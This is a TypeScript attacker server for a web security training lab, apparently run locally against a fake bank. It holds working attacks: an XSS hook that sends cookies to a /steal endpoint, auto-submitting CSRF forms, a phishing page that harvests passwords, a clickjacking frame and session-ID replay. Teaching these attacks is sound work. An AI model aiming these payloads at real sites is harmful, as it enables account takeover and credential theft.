// The lab's attacker site: Mallory's web server, which `npm run lab` starts beside the bank and
// e2e/lab-console.spec.ts starts in-process. It listens on 127.0.0.1, another *site* than the
// bank on localhost: the victim's SameSite=Strict cookie stays out of its forged requests unless
// a flaw lets it in. It serves the pages the trainer's demos need and keeps, in memory, every
// capture: what an XSS payload sent (/steal, /collect), a forged request it launched (/prize,
// /forge), a Referer from the bank. The lab console's inbox reads them from GET /captures, and
// Mallory's view (/view) opens the bank with any session ID they hold.
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { CAPTURE_KINDS, type Capture } from "../lib/lab/captures";

export type AttackerSiteOptions = {
  /** 0 picks a free port. */
  port: number;
  /** The bank's origin (http://localhost:3000): where forged forms post and frames point. */
  bankUrl: string;
  /** Where a one-line note of each capture goes (never its values); silent when absent. */
  log?: (line: string) => void;
};

export type AttackerSite = { url: string; captures: () => readonly Capture[]; close: () => Promise<void> };

// Kept small: a demo needs the last few captures, and a loop in a payload must not fill memory.
const MAX_CAPTURES = 200;
const MAX_FIELDS = 20;
const MAX_VALUE_LENGTH = 4096;
const MAX_BODY_BYTES = 16 * 1024;
// A 1×1 transparent GIF, so an <img> payload leaves no broken image behind.
const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

type Site = { url: string; bankUrl: string; captures: Capture[]; nextId: number; log?: (line: string) => void };
type Request = { req: IncomingMessage; res: ServerResponse; url: URL; site: Site };

export async function startAttackerSite(options: AttackerSiteOptions): Promise<AttackerSite> {
  const site: Site = { url: "", bankUrl: new URL(options.bankUrl).origin, captures: [], nextId: 1, log: options.log };
  const server = createServer((req, res) => {
    const request = { req, res, url: new URL(req.url ?? "/", site.url), site };
    route(request).catch(() => send(res, 400, "text/plain", "Bad request"));
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(options.port, "127.0.0.1", resolve);
  });
  site.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: site.url,
    captures: () => site.captures,
    close: () => new Promise((resolve, reject) => server.close((error) => (error ? reject(error) : resolve()))),
  };
}

async function route(request: Request): Promise<void> {
  const { req, res, url, site } = request;
  const path = url.pathname;
  if (path === "/captures") return answerCaptures(request);
  if (path === "/collect" && req.method === "OPTIONS") return send(res, 204, "text/plain", "", corsHeaders());
  if (path === "/collect" && req.method === "POST") return collect(request);
  if (req.method !== "GET") return send(res, 405, "text/plain", "Method not allowed");
  if (path === "/steal") {
    record(site, "stolen", request, fieldsOf(url.searchParams));
    return send(res, 200, "image/gif", PIXEL, corsHeaders());
  }
  if (path === "/prize") return forge(request, { action: "/signout", fields: {} });
  if (path === "/forge") return forge(request, forgedFormFromQuery(url.searchParams));
  noteReferer(request);
  if (path === "/") return send(res, 200, "text/html", indexPage(site));
  if (path === "/view") return send(res, 200, "text/html", await attackersView(site, url.searchParams.get("id")));
  if (path === "/hook.js") return send(res, 200, "text/javascript", hookScript(site));
  if (path === "/phish") return send(res, 200, "text/html", phishingPage());
  if (path === "/frame")
    return send(res, 200, "text/html", framingPage(site, url.searchParams.get("path") ?? "/dashboard"));
  return send(res, 404, "text/html", page("Not found", "<p>Nothing here.</p>"));
}

/** The inbox's feed (GET) and the console's reset (DELETE). */
function answerCaptures({ req, res, site }: Request): void {
  if (req.method === "GET") return send(res, 200, "application/json", JSON.stringify({ captures: site.captures }));
  if (req.method !== "DELETE") return send(res, 405, "text/plain", "Method not allowed");
  site.captures.length = 0;
  send(res, 204, "text/plain", "");
}

/** A payload's POST (fetch, sendBeacon) or the phishing form: form fields, JSON or plain text. */
async function collect(request: Request): Promise<void> {
  const { req, res, site } = request;
  const body = await readBody(req);
  if (body === null) return send(res, 413, "text/plain", "Too large");
  record(site, "stolen", request, parseBody(body, req.headers["content-type"] ?? ""));
  // The phishing form navigates here: send the victim back to the real bank, none the wiser.
  if (req.headers.accept?.includes("text/html"))
    return send(res, 303, "text/plain", "", { Location: `${site.bankUrl}/dashboard` });
  send(res, 204, "text/plain", "", corsHeaders());
}

function readBody(req: IncomingMessage): Promise<string | null> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    let size = 0;
    req.on("data", (chunk: Buffer) => {
      size += chunk.length;
      if (size <= MAX_BODY_BYTES) chunks.push(chunk);
    });
    req.on("end", () => resolve(size > MAX_BODY_BYTES ? null : Buffer.concat(chunks).toString("utf8")));
    req.on("error", reject);
  });
}

function parseBody(body: string, contentType: string): Record<string, string> {
  if (contentType.startsWith("application/x-www-form-urlencoded")) return fieldsOf(new URLSearchParams(body));
  if (contentType.startsWith("application/json")) {
    try {
      const parsed: unknown = JSON.parse(body);
      if (parsed && typeof parsed === "object" && !Array.isArray(parsed)) {
        return fieldsOf(
          Object.entries(parsed).map(([key, value]) => [
            key,
            typeof value === "string" ? value : JSON.stringify(value),
          ]),
        );
      }
    } catch {
      // Not JSON after all: kept as text below.
    }
  }
  return fieldsOf([["body", body]]);
}

function fieldsOf(entries: Iterable<[string, string]>): Record<string, string> {
  const fields: Record<string, string> = {};
  for (const [key, value] of entries) {
    if (Object.keys(fields).length >= MAX_FIELDS) break;
    fields[key.slice(0, 100)] = value.slice(0, MAX_VALUE_LENGTH);
  }
  return fields;
}

function record(site: Site, kind: Capture["kind"], { req, url }: Request, data: Record<string, string>): void {
  const capture: Capture = {
    id: site.nextId++,
    at: new Date().toISOString(),
    kind,
    path: url.pathname,
    data,
    referer: req.headers.referer ?? null,
  };
  site.captures.push(capture);
  if (site.captures.length > MAX_CAPTURES) site.captures.shift();
  site.log?.(`[attacker] capture #${capture.id}: ${CAPTURE_KINDS[kind].toLowerCase()} at ${capture.path}`);
}

/** Any page of this site opened from the bank: what the bank's Referer gave away is a capture. */
function noteReferer(request: Request): void {
  const referer = request.req.headers.referer;
  if (referer && !referer.startsWith(`${request.site.url}/`)) record(request.site, "referer", request, {});
}

type ForgedForm = { action: string; fields: Record<string, string>; enctype?: string };

/** /forge?action=/path&enctype=multipart/form-data&field=value…: any form, aimed at the bank. */
function forgedFormFromQuery(query: URLSearchParams): ForgedForm {
  const fields = fieldsOf([...query].filter(([key]) => key !== "action" && key !== "enctype"));
  return { action: query.get("action") ?? "/signout", fields, enctype: query.get("enctype") ?? undefined };
}

/** The lure: a page that submits a forged form to the bank in the victim's browser as it loads. */
function forge(request: Request, form: ForgedForm): void {
  const { res, site } = request;
  const target = new URL(form.action, site.bankUrl);
  if (target.origin !== site.bankUrl) return send(res, 400, "text/plain", "action must be a path on the bank");
  record(site, "forged", request, { action: `POST ${target.pathname}${target.search}`, ...form.fields });
  const enctype = form.enctype === "multipart/form-data" ? "multipart/form-data" : "application/x-www-form-urlencoded";
  const inputs = Object.entries(form.fields)
    .map(([name, value]) => `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}">`)
    .join("");
  send(
    res,
    200,
    "text/html",
    page(
      "You won a prize!",
      `<p>Claiming your prize…</p><form id="forged" method="POST" action="${escapeHtml(target.href)}" enctype="${enctype}">${inputs}</form>
<script>document.getElementById("forged").submit()</script>`,
    ),
  );
}

/** What an injected <script src> runs in the victim's page: the cookie and the URL, sent here. */
function hookScript(site: Site): string {
  return `(() => {
  const loot = new URLSearchParams({ c: document.cookie, page: location.href });
  new Image().src = ${JSON.stringify(`${site.url}/steal?`)} + loot;
})();
`;
}

/** Where an open redirect after sign-in lands: a look-alike asking for the password again. */
function phishingPage(): string {
  return page(
    "Vaultline — session expired",
    `<h1>Vaultline</h1><p>Your session expired. Sign in again to continue.</p>
<form method="POST" action="/collect"><label>Email <input name="email" autocomplete="username"></label>
<label>Password <input name="password" type="password" autocomplete="current-password"></label><button>Sign in</button></form>`,
  );
}

/** Clickjacking: the bank in an all-but-invisible frame, under a decoy button. */
function framingPage(site: Site, path: string): string {
  const target = new URL(path, site.bankUrl);
  const src = target.origin === site.bankUrl ? target.href : `${site.bankUrl}/dashboard`;
  return page(
    "Claim your prize",
    `<style>.stage{position:relative;width:900px;height:600px}.stage iframe{position:absolute;inset:0;width:100%;height:100%;opacity:.3;border:0}
.decoy{position:absolute;top:40px;left:40px;pointer-events:none;font-size:2rem}</style>
<p>Open this page as http://localhost:${new URL(site.url).port}/frame too: another port is the same <em>site</em>, so the Strict cookie rides along.</p>
<div class="stage"><iframe src="${escapeHtml(src)}" title="bank"></iframe><p class="decoy">Click anywhere to claim your prize!</p></div>`,
  );
}

// The bank's session cookie over plain HTTP (the lab's), and what a session ID looks like.
const SESSION_COOKIE = "vaultline.session";
const SESSION_ID = /(?:vaultline\.session=|[?&]sid=)([A-Za-z0-9_-]{43})/g;
// How the bank's own log writes one (the token-in-logs demo): the line's "session" field.
const LOGGED_ID = /"session":"([A-Za-z0-9_-]{43})"/g;

/** Every session ID the captures hold (cookies, links' ?sid=, Referers), newest first, once each. */
function stolenIds(site: Site): string[] {
  const found = [...site.captures]
    .reverse()
    .flatMap((c) => [...Object.values(c.data), c.referer ?? ""])
    .flatMap((text) => [...text.matchAll(SESSION_ID), ...text.matchAll(LOGGED_ID)].map((m) => m[1]!));
  return [...new Set(found)];
}

/**
 * The attacker's view: what Mallory sees with what she stole, without DevTools. Each ID the
 * captures hold, or one pasted (from the bank's log, a leaked table), opens the bank's dashboard
 * from this server as another client would, and the page shows what came back.
 */
async function attackersView(site: Site, pasted: string | null): Promise<string> {
  const ids = stolenIds(site);
  const tried = pasted?.trim() || null;
  const list = ids.length
    ? `<ul>${ids.map((id) => `<li><code>${escapeHtml(id.slice(0, 12))}…</code> <a href="/view?id=${encodeURIComponent(id)}">Open the bank with it</a></li>`).join("")}</ul>`
    : "<p>No session ID captured yet.</p>";
  const form = `<form method="GET" action="/view"><label>A session ID from elsewhere (a log line, a leaked table) <input name="id" size="50"></label> <button>Open the bank with it</button></form>`;
  const result = tried
    ? `<section aria-label="What the bank showed Mallory">${await bankAs(site, tried)}</section>`
    : "";
  return page("Mallory's view", `<h1>Mallory's view</h1><p>Session IDs the captures hold:</p>${list}${form}${result}`);
}

/** Opens the bank's dashboard with `id` as the session cookie and says what came back. */
async function bankAs(site: Site, id: string): Promise<string> {
  const response = await fetch(`${site.bankUrl}/dashboard`, {
    headers: { Cookie: `${SESSION_COOKIE}=${id}`, "User-Agent": "Mallory's browser (the lab's attacker site)" },
    redirect: "manual",
    signal: AbortSignal.timeout(5000),
  }).catch(() => null);
  if (!response) return "<p><strong>The bank did not answer.</strong></p>";
  if (response.status >= 300 && response.status < 400)
    return "<p><strong>Refused:</strong> the bank sent Mallory to sign in. The stolen ID opens nothing.</p>";
  if (!response.ok) return `<p><strong>The bank answered ${response.status}.</strong></p>`;
  const text = pageText(await response.text());
  return `<p><strong>In as the victim:</strong> the bank's dashboard, as Mallory sees it.</p><pre>${escapeHtml(text)}</pre>`;
}

/** A page's main content as plain text: a line per block, the markup gone. */
function pageText(html: string): string {
  const main = /<main[\s\S]*?<\/main>/.exec(html)?.[0] ?? html;
  return main
    .replace(/<(script|style)[\s\S]*?<\/\1>/g, "")
    .replace(/<\/(p|h\d|li|tr|div|section|dt|dd)>|<br\s*\/?>/g, "\n")
    .replace(/<[^>]*>/g, " ")
    .replace(/&amp;/g, "&")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#x27;|&#39;/g, "'")
    .split("\n")
    .map((line) => line.replace(/\s+/g, " ").trim())
    .filter(Boolean)
    .join("\n");
}

function indexPage(site: Site): string {
  const links: [string, string][] = [
    ["/prize", "forged sign-out: a form that posts to the bank's /signout as it loads"],
    [
      "/forge?action=/signout",
      "any forged form: action=<bank path>, enctype=multipart/form-data, and the fields as parameters",
    ],
    ["/hook.js", "XSS payload: sends document.cookie and the page's URL to /steal"],
    ["/steal?c=…", "records its parameters (an <img> or fetch from a payload)"],
    ["/phish", "a look-alike sign-in page whose form posts to /collect (the open-redirect demo)"],
    ["/frame?path=/dashboard", "the bank framed under a decoy (the clickjacking demo)"],
    ["/view", "Mallory's view: opens the bank with a stolen session ID and shows what she sees"],
  ];
  const payload = `<script src="${site.url}/hook.js"></script>`;
  return page(
    "Mallory's site",
    `<h1>Mallory's site</h1><p>Target: ${escapeHtml(site.bankUrl)}. ${site.captures.length} capture(s) so far; the lab console's inbox shows them.</p>
<ul>${links.map(([href, what]) => `<li><a href="${escapeHtml(href)}">${escapeHtml(href)}</a>: ${escapeHtml(what)}</li>`).join("")}</ul>
<p>An XSS payload: <code>${escapeHtml(payload)}</code></p>`,
  );
}

function page(title: string, body: string): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title></head><body>${body}</body></html>`;
}

function corsHeaders(): Record<string, string> {
  return {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Headers": "Content-Type",
    "Access-Control-Allow-Methods": "POST",
  };
}

function send(
  res: ServerResponse,
  status: number,
  type: string,
  body: string | Buffer,
  headers: Record<string, string> = {},
): void {
  res.writeHead(status, {
    "Content-Type": type.startsWith("image/") ? type : `${type}; charset=utf-8`,
    "Cache-Control": "no-store",
    ...headers,
  });
  res.end(body);
}

function escapeHtml(value: string): string {
  return value.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
}
